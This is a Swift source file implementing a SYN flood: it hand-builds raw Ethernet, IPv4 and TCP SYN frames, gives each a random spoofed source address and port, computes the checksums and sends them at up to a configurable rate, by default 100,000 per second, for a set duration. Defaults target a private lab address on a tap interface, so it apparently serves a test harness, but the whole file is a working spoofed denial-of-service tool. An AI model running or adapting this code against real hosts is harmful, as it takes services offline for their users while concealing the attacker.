import Glibc
import PeerPattern

/// SYNs from addresses and ports at random, as whole frames.
struct SYNFlood {
    private static let frameSize = 14 + 20 + 20
    private let rate: Int
    private let seconds: Int
    private let port: Int
    private let target: Address
    private let interface: String
    private let hardware: [UInt8]

    init(_ options: Options) {
        rate = options.number("rate", or: 100_000)
        seconds = options.number("seconds", or: 10)
        port = options.number("port", or: 7)
        target = Address(options.text("to") ?? "10.78.0.2", port)
        interface = options.text("interface") ?? "tap0"
        hardware = PacketAddress.hardware(options.text("hardware") ?? "02:00:00:00:4e:02")
    }

    /// Sends for the whole time; a frame for which the interface has no room counts as refused.
    func run() {
        let address = PacketAddress(interface)
        var (sent, refused) = (0, 0)
        var frame = template()
        let start = now()
        while now() - start < seconds * 1000 {
            let due = rate * (now() - start + 1) / 1000
            while sent + refused < due {
                vary(&frame)
                if address.send(frame) { sent += 1 } else { refused += 1 }
            }
            usleep(500)
        }
        SocketPeer.say("sent \(sent) refused \(refused) milliseconds \(now() - start)")
    }

    /// A frame with all that stays the same (RFC 791, section 3.1; RFC 9293, section 3.1).
    private func template() -> [UInt8] {
        var frame = hardware + [0x02, 0, 0, 0, 0x4E, 0xFF, 0x08, 0x00]
        frame += [0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0] + [0, 0, 0, 0]
        frame += withUnsafeBytes(of: target.host) { Array($0) }
        frame += [0, 0, UInt8(port >> 8), UInt8(port & 0xFF)] + [UInt8](repeating: 0, count: 8)
        frame += [0x50, 0x02, 0xFA, 0xF0, 0, 0, 0, 0]
        return frame
    }

    /// Another sender and number, with the checksums.
    private func vary(_ frame: inout [UInt8]) {
        var random = SystemRandomNumberGenerator()
        let (one, two) = (random.next() as UInt64, random.next() as UInt64)
        // 11.0.0.0 to 106.255.255.255: hosts like any others, and none here.
        frame[26] = 11 + UInt8(one & 0xFF) % 96
        for index in 0..<3 { frame[27 + index] = UInt8(truncatingIfNeeded: one >> (8 + 8 * UInt64(index))) }
        frame[34] = UInt8(truncatingIfNeeded: one >> 32) | 0x80
        frame[35] = UInt8(truncatingIfNeeded: one >> 40)
        for index in 0..<4 { frame[38 + index] = UInt8(truncatingIfNeeded: two >> (8 * UInt64(index))) }
        Self.setChecksum(&frame, of: 14..<34, at: 24, adding: 0)
        // The pseudo header: both addresses, the protocol, the length (RFC 9293, section 3.1).
        let pseudo = stride(from: 26, to: 34, by: 2).reduce(6 + 20) { $0 + Int(frame[$1]) << 8 + Int(frame[$1 + 1]) }
        Self.setChecksum(&frame, of: 34..<54, at: 50, adding: pseudo)
    }

    private static func setChecksum(_ frame: inout [UInt8], of range: Range<Int>, at place: Int, adding start: Int) {
        (frame[place], frame[place + 1]) = (0, 0)
        var sum = start
        for index in stride(from: range.lowerBound, to: range.upperBound, by: 2) {
            sum += Int(frame[index]) << 8 + Int(frame[index + 1])
        }
        while sum > 0xFFFF { sum = sum & 0xFFFF + sum >> 16 }
        (frame[place], frame[place + 1]) = (UInt8(~sum >> 8 & 0xFF), UInt8(~sum & 0xFF))
    }
}
